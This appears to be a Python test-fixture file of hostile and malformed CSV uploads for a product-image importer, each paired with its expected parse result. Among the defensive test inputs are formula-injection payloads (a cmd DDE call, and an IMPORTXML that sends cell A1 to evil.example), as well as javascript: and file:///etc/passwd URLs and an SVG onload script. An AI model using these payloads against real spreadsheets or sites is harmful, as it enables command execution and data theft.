"""CSVs that mean harm, or that somebody's spreadsheet made: what each has to come to."""

import gzip
import io
import zipfile
from dataclasses import dataclass

from functions.core.csv.errors import CsvCode

HEAD = "S. No.,Product Name,Input Image Urls"
GOOD = "1,Shoe,https://ok.example/1.jpg"
PNG = b"\x89PNG\r\n\x1a\n" + bytes(64)


@dataclass(frozen=True, slots=True)
class Case:
    """A file, and what it comes to: `refused` as a whole, or `rows` with so many `images`, errors of these `codes`."""

    name: str
    content: bytes
    rows: int = 1
    images: int = 1
    codes: tuple[CsvCode, ...] = ()
    refused: CsvCode | None = None
    warns: bool = False


def lines(*rows: str, head: str = HEAD, end: str = "\n") -> str:
    return end.join((head, *rows, ""))


def _text(name: str, *rows: str, head: str = HEAD, **outcome: object) -> Case:
    return Case(name, lines(*rows, head=head).encode(), **outcome)  # type: ignore[arg-type]  # fields of Case by name


def _refused(name: str, content: bytes, code: CsvCode) -> Case:
    return Case(name, content, refused=code)


def _xlsx() -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as workbook:
        workbook.writestr("xl/workbook.xml", "<workbook/>")
    return packed.getvalue()


UMLAUTS = lines("1,Größe Ärmel – 5 €,https://ok.example/1.jpg")
ENCODINGS = (
    Case("utf-8", UMLAUTS.encode()),
    Case("utf-8 with a mark", UMLAUTS.encode("utf-8-sig")),
    Case("utf-8 with two marks", b"\xef\xbb\xbf" + UMLAUTS.encode("utf-8-sig")),
    Case("utf-16-le with a mark", b"\xff\xfe" + UMLAUTS.encode("utf-16-le")),
    Case("utf-16-be with a mark", b"\xfe\xff" + UMLAUTS.encode("utf-16-be")),
    Case("windows-1252 without a word", UMLAUTS.encode("windows-1252"), warns=True),
    Case("iso 8859-1 control characters", lines("1,a\x85b,https://ok.example/1.jpg").encode("latin-1"), warns=True),
    Case("an overlong utf-8 slash", HEAD.encode() + b"\n1,a\xc0\xafb,https://ok.example/1.jpg\n", warns=True),
    Case("a utf-8 surrogate", HEAD.encode() + b"\n1,a\xed\xa0\x80b,https://ok.example/1.jpg\n", warns=True),
    Case("half a utf-8 character at the end", lines(GOOD, "2,Sch").encode() + b"\xc3", rows=3, warns=True),
    Case(
        "utf-16 cut within a character",
        ("\ufeff" + lines(GOOD)).encode("utf-16-le") + b"\x41",
        rows=2,
        codes=(CsvCode.UNDECODABLE,),
    ),
    Case(
        "a lone surrogate in utf-16",
        b"\xff\xfe" + lines("1,a\ud800b,https://ok.example/1.jpg").encode("utf-16-le", "surrogatepass"),
        images=0,
        codes=(CsvCode.UNDECODABLE,),
    ),
    _refused("utf-16-le without a mark", UMLAUTS.encode("utf-16-le"), CsvCode.CONTROL_CHARACTERS),
    _refused("utf-16-be without a mark", UMLAUTS.encode("utf-16-be"), CsvCode.CONTROL_CHARACTERS),
    _refused("utf-32", b"\xff\xfe\0\0" + UMLAUTS.encode("utf-32-le"), CsvCode.CONTROL_CHARACTERS),
    _refused("ebcdic", lines(GOOD).encode("cp500"), CsvCode.MISSING_COLUMNS),
    _refused("utf-7", lines(GOOD).replace(",", "+ACw-").encode(), CsvCode.MISSING_COLUMNS),
)

DELIMITERS = (
    Case("semicolons", lines(GOOD).replace(",", ";").encode()),
    Case("tabs", lines(GOOD).replace(",", "\t").encode()),
    Case("sep=;", b"sep=;\n" + lines(GOOD).replace(",", ";").encode()),
    Case("sep=tab", b"sep=\t\n" + lines(GOOD).replace(",", "\t").encode()),
    Case("crlf", lines(GOOD, end="\r\n").encode()),
    Case("cr alone", lines(GOOD, end="\r").encode()),
    Case("mixed line ends", (HEAD + "\r\n" + GOOD + "\n2,Hat,\r\n").encode(), rows=2),
    Case("no newline at the end", f"{HEAD}\n{GOOD}".encode()),
    Case("a thousand blank lines", (HEAD + "\n" * 1_000 + GOOD).encode()),
    Case("a thousand rows of commas", (HEAD + "\n" + ",,\n" * 1_000 + GOOD).encode()),
    Case("blank lines above the header", ("\n" * 50 + lines(GOOD)).encode()),
    Case("rows of commas above the header", (",,\n" * 50 + lines(GOOD)).encode()),
    Case("vertical bars", lines(GOOD).replace(",", "|").encode(), refused=CsvCode.MISSING_COLUMNS),
    Case("a unicode line separator in a cell", lines("1,a\u2028b,https://ok.example/1.jpg").encode()),
    Case("next line in a cell", lines("1,a\u0085b,https://ok.example/1.jpg").encode()),
)

QUOTES = (
    _text("a quoted newline", '1,"Shoe\nred",https://ok.example/1.jpg'),
    _text("a quoted quote", '1,"Shoe ""red""",https://ok.example/1.jpg'),
    _text("a quote within a cell", '1,12" shoe,https://ok.example/1.jpg'),
    _text(
        "never closed",
        '1,"Shoe,https://ok.example/1.jpg',
        "2,Hat,https://ok.example/2.jpg",
        rows=2,
        codes=(CsvCode.UNCLOSED_QUOTE,),
    ),
    _text("opened on the last line", GOOD, '2,"', rows=2, codes=(CsvCode.UNCLOSED_QUOTE,)),
    _text(
        "text after the closing one",
        '1,"Shoe"red,https://ok.example/1.jpg',
        GOOD,
        rows=2,
        codes=(CsvCode.MALFORMED_QUOTE,),
    ),
    _text("a space before the opening one", '1, "Shoe",https://ok.example/1.jpg'),
    _text(
        "a space after the closing one",
        '1,"Shoe" ,https://ok.example/1.jpg',
        GOOD,
        rows=2,
        codes=(CsvCode.MALFORMED_QUOTE,),
    ),
    _text("typographic ones", "1,“Shoe, red”,https://ok.example/1.jpg", images=0, codes=(CsvCode.TOO_MANY_CELLS,)),
    _text("single ones", "1,'Shoe, red',https://ok.example/1.jpg", images=0, codes=(CsvCode.TOO_MANY_CELLS,)),
    _text(
        "escaped by a backslash",
        '1,"Shoe \\" red",https://ok.example/1.jpg',
        GOOD,
        rows=2,
        codes=(CsvCode.MALFORMED_QUOTE,),
    ),
    _text("a cell of quotes alone", '1,"""""""",https://ok.example/1.jpg'),
    _text("ten thousand quotes", "1," + '"' * 10_000 + ",https://ok.example/1.jpg"),
    _text(
        "ten thousand and one quotes",
        "1," + '"' * 10_001 + ",https://ok.example/1.jpg",
        images=0,
        codes=(CsvCode.UNCLOSED_QUOTE,),
    ),
    _text(
        "a stray one in each of a thousand rows",
        *[f'{n},"Shoe,https://ok.example/{n}.jpg' for n in range(1_000)],
        rows=1_000,
        images=0,
        codes=(CsvCode.UNCLOSED_QUOTE,),
    ),
    _refused(
        "the header's is never closed",
        b'S. No.,"Product Name,Input Image Urls\n1,Shoe,https://ok.example/1.jpg\n',
        CsvCode.UNCLOSED_QUOTE,
    ),
    _text("quoted commas in the list", '1,Shoe,"https://ok.example/1.jpg,https://ok.example/2.jpg"', images=2),
    _text(
        "a list without quotes",
        "1,Shoe,https://ok.example/1.jpg,https://ok.example/2.jpg",
        images=0,
        codes=(CsvCode.TOO_MANY_CELLS,),
    ),
)

CHARACTERS = (
    _text("a nul", "1,Sh\0oe,https://ok.example/1.jpg", GOOD, rows=2, codes=(CsvCode.CONTROL_CHARACTERS,)),
    _text("a nul in the url", "1,Shoe,https://ok.example/1\0.jpg", images=0, codes=(CsvCode.CONTROL_CHARACTERS,)),
    _text(
        "an escape sequence", "1,\x1b[31mShoe,https://ok.example/1.jpg", images=0, codes=(CsvCode.CONTROL_CHARACTERS,)
    ),
    _text("a bell", "1,Sh\aoe,https://ok.example/1.jpg", images=0, codes=(CsvCode.CONTROL_CHARACTERS,)),
    _text("a backspace", "1,Sh\boe,https://ok.example/1.jpg", images=0, codes=(CsvCode.CONTROL_CHARACTERS,)),
    _text("a delete", "1,Sh\x7foe,https://ok.example/1.jpg", images=0, codes=(CsvCode.CONTROL_CHARACTERS,)),
    _text(
        "a carriage return within a row",
        "1,Sh\roe,https://ok.example/1.jpg",
        images=0,
        codes=(CsvCode.CONTROL_CHARACTERS,),
    ),
    _text("a tab in a cell", "1,Sh\toe,https://ok.example/1.jpg"),
    _text("text that turns to the left", "1,\u202egnp.eohs\u202c,https://ok.example/1.jpg"),
    _text("isolates", "1,\u2066Shoe\u2069,https://ok.example/1.jpg"),
    _text("a zero width space", "1,Sh\u200boe,https://ok.example/1.jpg"),
    _text("a mark in the middle", "1,Sh\ufeffoe,https://ok.example/1.jpg"),
    _text("emoji", "1,👟🧢,https://ok.example/1.jpg"),
    _text("a non-character", "1,Sh\uffffoe,https://ok.example/1.jpg"),
    _text("private use", "1,Sh\ue000oe,https://ok.example/1.jpg"),
    _text("a thousand combining marks", "1,S" + "\u0301" * 1_000 + ",https://ok.example/1.jpg"),
    _text("letters that look alike", "1,Ѕhое,https://ok.example/1.jpg"),
    _text("a header in another case", "1,Shoe,https://ok.example/1.jpg", head="s_no,PRODUCT NAME,input.image urls"),
    _text(
        "a header with a zero width space",
        GOOD,
        head="S. No.,Product Name,Input\u200b Image Urls",
        refused=CsvCode.MISSING_COLUMNS,
    ),
)

FORMULAS = tuple(
    _text(f"a formula: {cell[:12]}", f'1,"{cell}",https://ok.example/1.jpg')
    for cell in (
        "=1+1",
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-1+1",
        "@SUM(1+1)",
        "\t=1+1",
        "=HYPERLINK(\"\"http://evil.example\"\",\"\"x\"\")",
        "=IMPORTXML(CONCAT(\"\"http://evil.example/\"\",A1),\"\"//a\"\")",
        "＝1+1",
    )
)  # fmt: skip

CELLS = (
    _text("a cell of 200 kB", f"1,{'x' * 200_000},https://ok.example/1.jpg"),
    _text(
        "a cell of a million and one",
        f"1,{'x' * 1_000_001},https://ok.example/1.jpg",
        GOOD,
        rows=2,
        codes=(CsvCode.CELL_TOO_LARGE,),
    ),
    _text(
        "1,000 urls in one cell",
        f'1,Shoe,"{",".join(f"https://ok.example/{n}.jpg" for n in range(1_000))}"',
        images=1_000,
    ),
    _text("6,000 urls", f'1,Shoe,"{"https://ok.example/1.jpg," * 6_000}"', images=0, codes=(CsvCode.TOO_MANY_URLS,)),
    _text("a url of 10 kB", f"1,Shoe,https://ok.example/{'x' * 10_000}.jpg", images=0, codes=(CsvCode.NOT_A_URL,)),
    _text(
        "a row of a thousand cells",
        "1,Shoe,https://ok.example/1.jpg" + ",x" * 1_000,
        images=0,
        codes=(CsvCode.TOO_MANY_CELLS,),
    ),
    _text("a row of a thousand empty cells", GOOD + "," * 1_000),
    _text("a row of one cell", "1", images=0),
    _text("a header of a thousand columns", GOOD + ",x" * 1_000, head=HEAD + "".join(f",c{n}" for n in range(1_000))),
    _text(
        "a header whose names repeat",
        "1,Shoe,https://ok.example/1.jpg,https://ok.example/2.jpg",
        head=HEAD + ",Input Image Urls",
        images=2,
    ),
    _text("the same serial a thousand times", *["1,Shoe,https://ok.example/1.jpg"] * 1_000, rows=1_000),
    _text("a serial of a thousand digits", f"{'9' * 1_000},Shoe,https://ok.example/1.jpg"),
    _text("a serial below zero", "-1,Shoe,https://ok.example/1.jpg"),
    _text("no cell for the urls", "1,Shoe", images=0),
)

URLS = tuple(
    _text(f"no url: {cell[:24]}", f'1,Shoe,"{cell}"', images=0, codes=(CsvCode.NOT_A_URL,))
    for cell in (
        "javascript:alert(1)",
        "data:image/png;base64,AAAA",
        "file:///etc/passwd",
        "ftp://ok.example/1.jpg",
        "gopher://ok.example:70/_x",
        "//ok.example/1.jpg",
        "/images/1.jpg",
        "ok.example/1.jpg",
        "C:\\images\\1.jpg",
        "\\\\server\\share\\1.jpg",
        "s3:bucket/key.jpg",
        "gs://bucket/key.jpg",
        "see https://ok.example/1.jpg",
        "https://ok.example/1.jpg and more",
        "n/a",
        "-",
        "null",
        "<a href=https://ok.example/1.jpg>",
        "=IMAGE(https://ok.example/1.jpg)",
    )
)  # fmt: skip

OTHER_FILES = (
    _refused("empty", b"", CsvCode.EMPTY_FILE),
    _refused("one newline", b"\n", CsvCode.EMPTY_FILE),
    _refused("only a mark", b"\xef\xbb\xbf", CsvCode.EMPTY_FILE),
    _refused("only spaces", b"   \n  \n", CsvCode.EMPTY_FILE),
    _refused("only a header", HEAD.encode(), CsvCode.NO_ROWS),
    _refused("a header and rows of commas", (HEAD + "\n,,\n,,\n").encode(), CsvCode.NO_ROWS),
    _refused("no header", b"1,Shoe,https://ok.example/1.jpg\n", CsvCode.NO_HEADER),
    _refused("other columns", b"a,b,c\n1,2,3\n", CsvCode.MISSING_COLUMNS),
    _refused("a workbook", _xlsx(), CsvCode.NOT_A_CSV),
    _refused("an old workbook", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512), CsvCode.NOT_A_CSV),
    _refused("gzip", gzip.compress(lines(GOOD).encode()), CsvCode.NOT_A_CSV),
    _refused("a png", PNG, CsvCode.NOT_A_CSV),
    _refused("a jpeg", b"\xff\xd8\xff\xe0" + bytes(64), CsvCode.NOT_A_CSV),
    _refused("a gif", b"GIF89a" + bytes(64), CsvCode.NOT_A_CSV),
    _refused("a pdf", b"%PDF-1.7\n" + bytes(64), CsvCode.NOT_A_CSV),
    _refused("a web page", b"<!DOCTYPE html><html><body>Sign in</body></html>", CsvCode.NOT_A_CSV),
    _refused("a web page after blank lines", b"\n\n  <html>\n</html>", CsvCode.NOT_A_CSV),
    _refused("xml", b'<?xml version="1.0"?><rss/>', CsvCode.NOT_A_CSV),
    _refused("svg with a script", b'<svg onload="alert(1)"/>', CsvCode.NOT_A_CSV),
    _refused("json", b'{"products": []}', CsvCode.NOT_A_CSV),
    _refused("a json array", b'[{"a": 1}]', CsvCode.NOT_A_CSV),
    _refused("zeros", bytes(10_000), CsvCode.CONTROL_CHARACTERS),
    _refused("one line of 20 MB", b"x" * 20_000_000, CsvCode.CELL_TOO_LARGE),
    _refused("an elf", b"\x7fELF\x02\x01\x01" + bytes(200), CsvCode.CONTROL_CHARACTERS),
)

CASES = (*ENCODINGS, *DELIMITERS, *QUOTES, *CHARACTERS, *FORMULAS, *CELLS, *URLS, *OTHER_FILES)

# What lenient mode makes of rows that strict mode refuses: how many images.
MENDED = {
    "a list without quotes": 2,
    "no url: //ok.example/1.jpg": 1,
    "no url: see https://ok.example/1": 2,  # "see" has its place, to fail alone
    "no url: https://ok.example/1.jpg": 1,  # and what stands behind it, with %20
}
